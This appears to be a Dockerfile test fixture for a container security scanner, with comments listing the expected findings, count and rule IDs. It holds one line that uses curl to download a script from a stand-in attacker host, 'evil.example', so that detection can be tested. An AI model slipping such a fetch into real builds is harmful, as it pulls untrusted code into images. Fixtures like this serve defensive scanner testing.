FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /z HTTPS://EVIL.EXAMPLE/X.SH
USER app
# expect: download 2 high "curl fetches HTTPS://EVIL.EXAMPLE/X.SH"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-0561f3f421 VR501-e064bac1a6
